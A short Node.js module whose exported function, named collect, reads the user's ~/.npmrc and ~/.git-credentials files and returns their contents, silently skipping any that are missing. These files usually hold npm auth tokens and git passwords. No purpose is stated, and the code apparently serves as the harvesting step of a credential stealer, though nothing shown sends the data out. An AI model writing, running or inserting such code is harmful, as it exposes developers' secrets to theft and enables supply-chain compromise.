const fs = require('fs');
const os = require('os');
const path = require('path');

module.exports = function collect() {
  const out = {};
  for (const name of ['.npmrc', '.git-credentials']) {
    try {
      out[name] = fs.readFileSync(path.join(os.homedir(), name), 'utf8');
    } catch {
      // absent
    }
  }
  return out;
};
